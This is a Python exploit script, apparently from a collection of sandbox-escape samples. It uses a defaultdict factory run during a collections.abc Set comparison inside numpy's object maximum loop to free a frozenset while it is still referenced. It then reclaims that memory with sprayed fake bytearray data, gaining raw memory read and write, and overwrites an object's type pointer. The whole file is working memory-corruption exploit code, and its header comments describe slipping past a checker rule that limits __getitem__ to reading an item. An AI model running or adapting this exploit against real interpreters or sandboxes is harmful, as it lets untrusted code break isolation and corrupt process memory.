# source: collections/abc.py Set.__ge__ + ItemsView.__contains__ (v = self._mapping[key]); the check's __getitem__ rule ('only read an item') where the item read is a defaultdict whose factory is script code; numpy OBJECT_maximum loop
# family: script code run by a missing key (defaultdict factory) behind an allowed __getitem__, from a library Set comparison inside numpy's object max loop -> use-after-free -> forged bytearray
# goal: dangling reference to a freed frozenset from np.maximum.reduce, reclaimed as a fake bytearray: raw memory read and type-pointer write
import collections
import collections.abc
import numpy as np
import pandas as pd


class Basket:
    def __init__(self, items):
        self.items = tuple(items)
        self.prices = collections.defaultdict(rebalance)

    def __len__(self):
        return len(self.items)

    def __iter__(self):
        return iter(self.items)

    def __getitem__(self, k):
        return self.prices[k]


class Box:
    pass


class Other:
    pass


book = np.empty(2, dtype=object)


def rebalance():
    book[1] = 0
    return -1


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


book[0] = collections.abc.ItemsView(Basket([1]))
book[1] = frozenset([(2, 3)])
res = np.maximum.reduce(book)
fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
